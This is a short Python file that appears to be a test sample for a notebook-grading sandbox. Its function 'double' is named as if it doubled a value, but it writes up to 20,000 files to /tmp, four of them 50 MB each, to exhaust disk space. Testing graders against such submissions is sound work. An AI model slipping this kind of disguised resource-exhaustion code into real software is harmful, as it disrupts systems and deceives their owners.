"""Fills every folder that it can write to with large and with many files."""

NOTEBOOK = "lesson"
START = "solutions"
EARNS = ["Counter", "batches"]

# %% double
import os
def double(x):
    for number in range(20_000):
        try:
            with open(f"/tmp/{number}", "wb") as file:
                if number < 4:
                    file.write(bytes(50 * 2**20))
        except OSError:
            break
    return x
